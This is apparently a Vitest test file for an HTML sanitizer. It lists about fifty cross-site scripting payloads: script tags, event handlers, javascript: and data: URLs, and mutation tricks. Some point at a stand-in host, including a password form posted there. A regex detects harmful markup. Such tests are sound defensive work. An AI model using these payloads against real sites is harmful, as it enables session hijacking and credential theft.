import { describe, expect, it } from 'vitest'
import { cleanHtml } from './clean-html.ts'

/** Anything by which markup runs, loads or takes over a page. */
const HARMFUL =
  /<(?!\/?(?:p|br|hr|h[234]|ul|ol|li|strong|b|em|i|u|s|small|blockquote|a|table|thead|tbody|tr|th|td)\b)|\bon\w+\s*=|javascript:|vbscript:|data:|style=|src=|srcset=|formaction|xlink/i

describe('HTML of an operator', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    '<script\n>alert(1)</script\n>',
    '<script/x>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="data:image/png;base64,AAAA">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="//evil.invalid"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x">',
    '<style>*{position:fixed}</style>',
    '<p style="position:fixed;inset:0">over</p>',
    '<p onclick="alert(1)">x</p>',
    '<p ONMOUSEOVER=alert(1)>x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<form action="//evil.invalid"><input name=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="//evil.invalid/">',
    '<meta http-equiv="refresh" content="0;url=//evil.invalid">',
    '<link rel=stylesheet href="//evil.invalid">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><script>alert(1)</script></textarea>',
    '<xmp><script>alert(1)</script></xmp>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<p><![CDATA[<script>alert(1)</script>]]></p>',
    '<video><source onerror=alert(1)></video>',
    '<details open ontoggle=alert(1)>',
    '<p id="app" class="modal" title="x" tabindex=1 autofocus onfocus=alert(1)>x</p>',
    '<a href="#" target="_top" ping="//evil.invalid" download>x</a>',
    '<title><img src=x onerror=alert(1)></title>',
    '<select><script>alert(1)</script></select>',
    '<b><b><i></b><script >alert(1)</script x></i>',
    '<plaintext><script>alert(1)</script>',
    '<a href="x" onclick\u00a0=alert(1)>x</a>',
    '<p/onclick=alert(1)>x',
    '<<p>script>alert(1)<</p>/script>',
  ])('[ANN-01] loses what is harmful in %j', (html) => {
    const clean = cleanHtml(html)
    expect(clean).not.toMatch(HARMFUL)
    expect(cleanHtml(clean)).toBe(clean)
  })

  it.each([
    [
      '<p>One <strong>two</strong> <em>three</em></p><ul><li>four</li></ul>',
      '<p>One <strong>two</strong> <em>three</em></p><ul><li>four</li></ul>',
    ],
    [
      '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>',
      '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>',
    ],
    ['5 < 6 & "quoted"', '5 &lt; 6 &amp; "quoted"'],
    [
      '<a href="https://example.com/a?b=1&amp;c=2">x</a>',
      '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    ],
    [
      '<a href="/promotions#one" rel="opener" target="_top">x</a>',
      '<a href="/promotions#one" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    ],
    ['<a href="//evil.invalid">x</a>', '<a>x</a>'],
    ['<a href="/\\evil.invalid">x</a>', '<a>x</a>'],
    ['<a href="https:evil">x</a>', '<a>x</a>'],
    ['<a href="mailto:a@example.com">x</a>', '<a>x</a>'],
    ['<a name="x">y</a>', '<a>y</a>'],
    ['<script>silent</script>loud', 'loud'],
    ['<div>kept <span>text</span></div>', 'kept text'],
    ['', ''],
  ])('[ANN-01] keeps of %j what is text', (html, clean) => {
    expect(cleanHtml(html)).toBe(clean)
    expect(cleanHtml(clean)).toBe(clean)
  })
})
